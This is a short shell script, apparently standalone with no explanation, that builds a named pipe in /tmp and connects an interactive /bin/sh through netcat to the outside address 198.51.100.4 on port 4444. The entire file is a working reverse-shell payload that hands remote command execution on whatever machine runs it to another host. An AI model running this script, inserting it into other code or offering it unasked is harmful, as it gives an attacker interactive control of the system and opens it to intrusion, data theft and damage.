#!/bin/sh
rm -f /tmp/f; mkfifo /tmp/f
cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.4 4444 > /tmp/f
